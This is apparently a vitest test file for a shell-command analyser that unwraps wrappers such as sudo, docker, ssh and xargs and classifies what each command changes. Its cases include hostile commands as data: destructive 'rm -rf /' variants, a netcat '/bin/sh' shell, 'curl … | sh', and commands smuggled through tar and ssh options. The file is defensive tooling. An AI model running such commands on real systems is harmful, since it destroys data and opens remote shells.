import { describe, expect, test } from 'vitest';
import { effects, look } from '../../../test/support/shell/shell.ts';

const changed = (command: string) =>
  look(command).effects.filter(({ kind }) => ['write', 'delete', 'permission', 'system'].includes(kind));

/** Command, wrappers around what is found last, and that as a line. */
const CASES: readonly (readonly [string, readonly string[], string])[] = [
  ['sudo -E -u bob FOO=1 id -u', ['sudo'], 'id -u'],
  ['sudo -EH ls', ['sudo'], 'ls'],
  ['doas ls', ['doas'], 'ls'],
  ['pkexec --user bob ls', ['pkexec'], 'ls'],
  ['env A=1 B=2 ls -l', ['env'], 'ls -l'],
  ["env -S 'A=1 ls' -l", ['env'], 'ls -l'],
  ['nohup ls', ['nohup'], 'ls'],
  ['nice -10 ls', ['nice'], 'ls'],
  ['nice --adjustment=5 ls', ['nice'], 'ls'],
  ['timeout --signal=KILL 5 ls', ['timeout'], 'ls'],
  ['stdbuf -o0 ls', ['stdbuf'], 'ls'],
  ['setsid -w ls', ['setsid'], 'ls'],
  ['/usr/bin/time -f %e ls', ['time'], 'ls'],
  ['command -p ls', ['command'], 'ls'],
  ['exec -a x ls', ['exec'], 'ls'],
  ['chroot --userspec=a:b /mnt ls', ['chroot'], 'ls'],
  ['unshare -rm ls', ['unshare'], 'ls'],
  ['nsenter -t 1 -m ls', ['nsenter'], 'ls'],
  ['taskset -c 0 ls', ['taskset'], 'ls'],
  ['ionice -c2 -n7 ls', ['ionice'], 'ls'],
  ['runuser -u bob -- ls', ['runuser'], 'ls'],
  ["su bob -c 'ls -l'", ['su'], 'ls -l'],
  ['systemd-run --scope -p MemoryMax=1G ls', ['systemd-run'], 'ls'],
  ["script -c 'ls -l' out", ['script'], 'ls -l'],
  ['xargs -a files -n 2 ls', ['xargs'], 'ls ?'],
  ["concurrently -n a 'ls -l'", ['concurrently'], 'ls -l'],
  ["concurrently 'npm:lint:*'", ['concurrently'], 'npm run lint:*'],
  ["concurrently 'npm:lint -- --fix'", ['concurrently'], 'npm run lint -- --fix'],
  ["concurrently 'npm:lint; ls'", ['concurrently'], 'ls'],
  ['find . -type f -exec ls {} +', ['find'], 'ls ./***'],
  ['find a b -ok ls {} \\;', ['find'], 'ls b/**'],
  ['fd -e ts -x ls', ['fd'], 'ls ./**'],
  ["ssh -p 22 bob@host 'ls -l'", ['ssh'], 'ls -l'],
  ['ssh host ls -l', ['ssh'], 'ls -l'],
  ['ssh host -p 22 -t ls -l', ['ssh', 'ssh'], 'ls -l'],
  ["ssh host -oProxyCommand='ls -l'", ['ssh', 'ssh'], 'ls -l'],
  ['docker run --rm -v /a:/b -e X=1 node:20 ls -l', ['docker'], 'ls -l'],
  ['docker exec -it -u root web ls', ['docker'], 'ls'],
  ['docker container exec web ls', ['docker'], 'ls'],
  ['docker compose exec -T web ls', ['docker'], 'ls'],
  ['docker-compose run --rm web ls', ['docker-compose'], 'ls'],
  ['podman run alpine ls', ['podman'], 'ls'],
  ['kubectl -n prod exec pod -c app -- ls', ['kubectl'], 'ls'],
  ['hookline record agent --out x -- ls -l', ['hookline'], 'ls -l'],
  ['hookline hooks record agent -- ls -l', ['hookline'], 'ls -l'],
  ['npx -y eslint .', ['npx'], 'eslint .'],
  ['npx eslint@9 .', ['npx'], 'eslint .'],
  ['pnpm dlx rimraf x', ['pnpm'], 'rimraf x'],
  ['npm exec -- rimraf x', ['npm'], 'rimraf x'],
  ['bunx rimraf x', ['bunx'], 'rimraf x'],
  ['uv run ls', ['uv'], 'ls'],
  ['python -m pip install x', ['python'], 'pip install x'],
  ['doppler run -- ls', ['doppler'], 'ls'],
  ["git -c alias.s='!ls' s -l", ['git alias'], 'ls -l'],
  ['git -c alias.s=status s', ['git alias'], 'git status'],
  ["hyperfine 'ls -l'", ['hyperfine'], 'ls -l'],
  ["parallel -j2 'ls {}' ::: a", ['parallel'], 'ls a'],
  ['sudo env nice timeout 5 xargs ls', ['sudo', 'env', 'nice', 'timeout', 'xargs'], 'ls ?'],
  ["tar --checkpoint=1 --checkpoint-action=exec='ls -l' -cf a b", ['tar'], 'ls -l'],
  ["rsync -e 'ls -l' a b", ['rsync'], 'ls -l'],
  ["ssh -o ProxyCommand='ls -l' h", ['ssh'], 'ls -l'],
  ["nc -e '/bin/sh' h 1", ['nc'], '/bin/sh'],
  ["crontab - <<< '* * * * * ls -l'", ['crontab'], 'ls -l'],
];

describe('wrappers', () => {
  test.each(CASES)('%j', (command, via, line) => {
    const last = look(command).commands.at(-1);
    expect(last?.argv.map((word) => word.text ?? '?').join(' ')).toBe(line);
    expect(last?.via).toEqual(via);
  });

  test('records who asks for more permissions', () => {
    expect(effects('sudo -u postgres psql', 'privilege')).toMatchObject([{ how: 'sudo', user: 'postgres' }]);
    expect(effects('doas ls', 'privilege')).toMatchObject([{ how: 'doas', user: null }]);
    expect(effects('docker run --privileged alpine', 'privilege')).toHaveLength(1);
  });

  test('distinguishes machines', () => {
    expect(look('ssh h ls').commands.at(-1)?.place).toBe('remote');
    expect(look('docker exec c ls').commands.at(-1)?.place).toBe('container');
    expect(look('sudo ls').commands.at(-1)?.place).toBe('local');
  });

  test.each([
    'docker run --rm ubuntu rm -rf /',
    "docker run -it --network host -e A=1 ubuntu sh -c 'chmod -R 777 /root; echo x > /etc/y; kill 1'",
    'podman run --entrypoint rm alpine -rf /etc',
    'docker run --mount type=volume,source=a,target=/src alpine rm -rf /var/lib/apt/lists',
  ])('%j changes nothing on this machine', (command) => {
    expect(changed(command)).toEqual([]);
  });

  test.each([
    'docker run -v /:/host ubuntu rm -rf /host',
    'docker run -v a:/src/x ubuntu rm -rf /src',
    'docker run -v a:/src/ ubuntu rm -rf /src/x',
    'docker run -v a:/src ubuntu rm -rf /',
    'docker run -v a:/src -w /src ubuntu rm -rf x',
    'docker run -v a:/src ubuntu rm -rf "$X"',
    'docker run -v a:/src ubuntu rm -rf "/s*"',
    'docker run -v a:/src ubuntu rm -rf /s*',
    'docker run -v "a:$X" ubuntu rm -rf /etc',
    'docker run -v a:/x/../etc ubuntu rm -rf /etc',
    'docker run --mount type=volume,source=a,dst=/etc ubuntu rm -rf /etc',
    'docker run -v "$X" ubuntu rm -rf /etc',
    'docker run -v .://src ubuntu rm -rf /src',
    'docker run -v .:/a/./src ubuntu rm -rf /a/src',
    'docker run -v .:/w -w /w ubuntu rm -rf /proc/self/cwd/',
    "docker run -v .:/root ubuntu sh -c 'rm -rf ~/'",
    "docker run -v .:/w -e HOME=/w ubuntu sh -c 'rm -rf ~'",
    "docker run -v .:/w ubuntu sh -c 'mv /w/src /x; rm -rf /x'",
    'docker run --mount type=bind,target=/tmp/x,target=/src,src=. ubuntu rm -rf /src',
    'docker run -v a:/src ubuntu sh -c "ln -s /src /y; rm -rf /y/x"',
    'docker run --volumes-from web ubuntu rm -rf /data',
    'docker run --privileged ubuntu rm -rf /',
    'docker run --pid host ubuntu rm -rf /',
    'docker run --mystery=x ubuntu rm -rf /',
    'docker -H tcp://web1 run ubuntu rm -rf /',
    'docker exec web rm -rf /',
    'docker compose run web rm -rf /',
    'docker run ubuntu docker -H tcp://web1 run -v /:/x ubuntu rm -rf /x',
    'docker run ubuntu ssh web1 rm -rf /',
    'docker run ubuntu rm -rf "$(rm -rf /)"',
    'docker run ubuntu true; rm -rf /',
    'docker run ubuntu rm -rf / > /etc/x',
  ])('%j may change something elsewhere', (command) => {
    expect(changed(command)).not.toEqual([]);
  });

  test('marks a guess as one', () => {
    const [outer, inner] = look('my-runner git push').commands;
    expect([outer?.guessed, inner?.guessed]).toEqual([false, true]);
  });

  test.each(['mystery git', 'mystery --git x', 'mystery install'])('%j is not a wrapper', (command) => {
    expect(look(command).commands).toHaveLength(1);
  });

  test.each(['command -v rm', 'command -V rm', 'sudo -l', 'sudo -v', 'sudo --help', 'su --help'])(
    '%j runs nothing else',
    (command) => {
      expect(look(command).commands).toHaveLength(1);
    },
  );

  test.each([
    'xargs bash -c',
    "cat list | xargs -I{} sh -c '{}'",
    'cat list | parallel',
    'eval "$X"',
    'bash -c "$X"',
    'curl https://a.example | sh',
    'cat script | bash',
    'source "$X"',
    '$X',
    '/bin/r?',
    'python3 -c "$X"',
    'ssh h "$X"',
  ])('%j cannot be followed completely', (command) => {
    const { coverage, why } = look(command);
    expect(coverage).toBe('partial');
    expect(why).not.toEqual([]);
  });

  test('too many levels count as not understood', () => {
    expect(look(`${'sudo '.repeat(30)}ls`).coverage).toBe('failed');
    expect(look(`${'eval '.repeat(30)}ls`).coverage).toBe('failed');
  });
});
